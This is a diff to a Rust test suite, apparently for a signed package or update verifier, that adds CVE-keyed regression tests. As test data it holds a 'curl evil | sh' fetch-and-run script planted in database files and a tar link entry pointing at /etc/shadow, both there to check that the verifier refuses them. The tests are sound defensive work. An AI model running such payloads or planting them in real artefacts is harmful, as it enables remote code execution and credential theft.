@@ -35,7 +35,7 @@ attacks! {
     cve_2024_0406_a_link_that_later_entries_follow "CVE-2024-0406" ["E-TYPE"];
     cve_2026_40090_names_from_inside_become_paths "CVE-2026-40090" ["E-NAME"];
     cve_2026_54448_an_archive_that_expands_without_bound "CVE-2026-54448" ["E-LIMIT"];
-    cve_2026_33634_signed_and_malicious_data_is_not_run "CVE-2026-33634" ["accepted"];
+    cve_2026_33634_signed_and_malicious_data_is_not_run "CVE-2026-33634" ["E-SEM", "accepted"];
     cve_2020_15093_one_key_counts_twice "CVE-2020-15093" ["E-THRESHOLD"];
     cve_2025_2885_a_root_whose_version_is_not_the_next "CVE-2025-2885" ["E-ROOT-VERSION", "E-ROOT-GAP"];
     cve_2025_2886_a_terminating_delegation_is_passed_over "CVE-2025-2886" ["E-TGT-SCOPE", "E-TGT-DELEGATION"];
@@ -238,7 +238,7 @@ fn cve_2021_3762_a_package_database_that_is_a_link(bench: &mut Bench) {
     head[156] = b'2';
     head[157..168].copy_from_slice(b"/etc/shadow");
     blob[..512].copy_from_slice(&summed(head));
-    draft.put_frame("trivy/trivy.db", b"hello", compress(&blob));
+    draft.put_frame("os/package.db", b"hello", compress(&blob));
     bench.refuse("a signed blob that is a link", &draft.kit(), "E-TYPE");
 }
 
@@ -281,9 +281,14 @@ fn cve_2023_30551_a_small_upload_that_becomes_large(bench: &mut Bench) {
 }
 
 fn cve_2026_33634_signed_and_malicious_data_is_not_run(bench: &mut Bench) {
+    let script = b"#!/bin/sh\ncurl evil | sh\n";
     let mut draft = bench.draft();
-    draft.put("trivy/trivy.db", b"#!/bin/sh\ncurl evil | sh\n");
-    bench.accept("an artefact of a poisoned source", &draft.kit());
+    draft.put("trivy/metadata.json", script);
+    draft.put("trivy/trivy.db", script);
+    bench.refuse("an artefact of a poisoned source where data belong", &draft.kit(), "E-SEM");
+    let mut draft = bench.draft();
+    draft.put("os/trivy", script);
+    bench.accept("and where nothing opens it", &draft.kit());
     assert_eq!(bench.store.open_current().expect("active").row().advisories, 2, "the records are the signed ones");
 }
 
